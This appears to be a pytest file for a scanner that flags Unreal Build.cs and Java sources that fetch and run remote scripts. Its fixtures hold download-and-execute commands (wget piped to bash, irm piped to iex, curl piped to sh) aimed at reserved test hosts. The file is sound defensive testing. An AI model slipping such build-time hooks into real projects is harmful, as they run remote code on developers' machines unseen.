"""C# sources (an Unreal ``*.Build.cs`` that UnrealBuildTool compiles and runs on every build, a
``.csx`` script) read by the light reader: ``new ProcessStartInfo("prog", "args")`` and
``Process.Start("prog", "args")`` start ``prog`` with that argument line, so the pair is a command
line; strings declared with a type (``string u = …``, Java's ``String u = …``) are followed into it, and
a choice between two literals (``win ? "a.ps1" : "a.sh"``) keeps the pieces around it. Hosts are TEST-NET
or reserved names."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings

_BUILD_CS = (
    "using System.Diagnostics;\nusing UnrealBuildTool;\n\npublic class Grain : ModuleRules\n{{\n"
    "    public Grain(ReadOnlyTargetRules Target) : base(Target)\n    {{\n{body}    }}\n}}\n"
)


@pytest.mark.parametrize(
    ("path", "body"),
    [
        (
            "Source/Grain/Grain.Build.cs",
            '        string url = "http://203.0.113.7/tools/"'
            ' + (Target.Platform == UnrealTargetPlatform.Mac ? "m.sh" : "l.sh");\n'
            '        Process.Start("bash", "-c \\"wget -qO- " + url + " | bash\\"");\n',
        ),
        (
            "Source/Grain/Grain.Build.cs",
            '        var psi = new ProcessStartInfo("powershell",'
            ' "-NoProfile -Command \\"irm https://cdn.grain-fx.example/i.ps1 | iex\\"");\n'
            "        Process.Start(psi);\n",
        ),
    ],
)
def test_a_build_cs_starting_a_downloaded_script_is_an_error(tmp_path: Path, path: str, body: str) -> None:
    errors = scan_errors(tmp_path / "s", {path: _BUILD_CS.format(body=body)})
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


def test_a_java_shell_command_built_around_a_typed_string_is_read(tmp_path: Path) -> None:
    java = (
        'class Fetch {\n  void go() throws Exception {\n    final String src = "https://198.51.100.40/boot.sh";\n'
        '    new ProcessBuilder("sh", "-c", "curl -s " + src + " | sh").start();\n  }\n}\n'
    )
    errors = scan_errors(tmp_path / "s", {"tools/Fetch.java": java})
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


def test_a_build_cs_running_a_local_tool_is_no_error(tmp_path: Path) -> None:
    body = (
        '        string tool = "git";\n        Process.Start(tool, "rev-parse --short HEAD");\n'
        '        var psi = new ProcessStartInfo("cmake", "--version");\n'
        '        PublicDefinitions.Add("DOCS_URL=\\"https://docs.grain-fx.example/\\"");\n'
    )
    found = scan_findings(tmp_path / "s", {"Source/Grain/Grain.Build.cs": _BUILD_CS.format(body=body)})
    assert not [f for f in found if f.severity.value == "error"]
